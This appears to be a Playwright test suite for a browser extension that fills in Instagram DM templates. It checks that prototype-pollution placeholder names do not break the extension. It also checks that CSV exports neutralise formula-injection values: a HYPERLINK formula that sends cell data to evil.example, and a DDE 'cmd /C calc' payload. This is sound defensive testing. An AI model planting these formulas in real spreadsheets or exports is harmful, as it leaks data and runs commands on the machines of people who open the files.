// Hostile input is normal: templates, names and files from strangers and other tools must never break the sidebar,
// execute, or leak as live formulas.
import type { BrowserContext } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { expect, test } from './harness';

async function importTemplates(context: BrowserContext, extensionId: string, templates: object[]) {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/options.html`);
  await expect(page.getByTestId('library-row').first()).toBeVisible();
  await page.getByTestId('import-file').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify({ templates })),
  });
  await expect(page.getByTestId('import-status')).toContainText('Imported');
  return page;
}

test('a template using {{constructor}}, {{toString}}, {{__proto__}}, {{valueOf}} keeps the sidebar working', async ({
  context,
  extensionId,
  openDm,
}) => {
  const options = await importTemplates(context, extensionId, [
    {
      title: 'Object keys',
      body: 'Hi {{first_name}}, {{constructor}} {{toString}} {{__proto__}} {{valueOf}}.',
      shortcut: 'keys',
    },
  ]);
  // Its editor opens and previews it.
  await options.locator('[data-testid="library-row"][data-title="Object keys"]').getByTestId('edit').click();
  await expect(options.getByTestId('editor-preview')).toContainText('Hi Jane,');

  const dm = await openDm('https://www.instagram.com/direct/t/1001/');
  const errors: string[] = [];
  dm.page.on('pageerror', (e) => errors.push(e.message));
  await dm.sidebar.getByTestId('search').fill('object keys');
  await dm.template('Object keys').click();
  const fillIn = dm.sidebar.getByTestId('fill-in');
  await expect(fillIn).toContainText('Constructor');
  for (const input of await fillIn.locator('input[type="text"], input:not([type])').all()) await input.fill('x');
  await fillIn.getByTestId('fill-in-insert').click();
  await expect.poll(() => dm.editorText()).toBe('Hi Jane, x x x x.');
  // The list still renders (a second later, after the sidebar's clock ticked) and shortcuts still work.
  await dm.sidebar.getByTestId('search').fill('');
  await dm.page.waitForTimeout(1100);
  await expect(dm.sidebar.locator('[data-row]').first()).toBeVisible();
  expect(errors).toEqual([]);
});

test('the feedback CSV writes a hostile contact name and answer as text, never as live formulas', async ({
  openDm,
  context,
  worker,
}) => {
  const name = '=HYPERLINK("http://evil.example/?"&A1,"Jane")';
  const dm = await openDm('https://www.instagram.com/direct/t/1001/', {
    threads: { '1001': { name, handle: 'evil', messages: [{ dir: 'in', text: 'hi' }] } },
  });
  await dm.sidebar.getByTestId('log-feedback').click();
  await dm.sidebar.getByTestId('feedback-scale').selectOption('text');
  await dm.sidebar.getByTestId('feedback-comment').fill('=cmd|" /C calc"!A0');
  await dm.sidebar.getByTestId('feedback-save').click();
  await expect(dm.sidebar.getByTestId('status')).toHaveText('Feedback logged.');

  const dashboard = await context.newPage();
  await dashboard.goto(`chrome-extension://${new URL(worker.url()).host}/dashboard.html`);
  await expect(dashboard.getByTestId('feedback-row')).toHaveCount(1);
  const [download] = await Promise.all([dashboard.waitForEvent('download'), dashboard.getByTestId('export-feedback').click()]);
  const csv = readFileSync((await download.path())!, 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")"`);
  expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
  expect(csv).not.toMatch(/(^|,)"?=/m);
});
